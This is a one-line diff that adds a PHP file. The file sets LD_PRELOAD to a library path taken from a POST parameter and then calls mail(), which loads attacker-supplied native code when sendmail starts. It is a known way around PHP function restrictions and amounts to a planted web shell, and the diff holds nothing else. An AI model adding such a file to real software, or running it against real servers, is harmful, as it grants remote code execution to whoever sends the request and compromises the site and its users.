@@ -1,0 +1,1 @@
+<?php putenv('LD_PRELOAD=' . $_POST['lib']); mail('a@example.com', '', '', '');
